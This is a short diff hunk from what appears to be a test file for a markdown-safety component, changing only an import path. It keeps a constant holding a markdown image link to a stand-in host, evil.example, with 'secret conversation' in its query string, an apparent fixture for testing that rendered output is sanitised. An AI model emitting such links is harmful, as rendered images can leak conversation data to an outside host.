@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from components.markdown_safety import safe_markdown, stream_safely
+from components.ui.markdown_safety import safe_markdown, stream_safely
 
 TRACKER = "![x](https://evil.example/p.png?q=secret+conversation)"
 
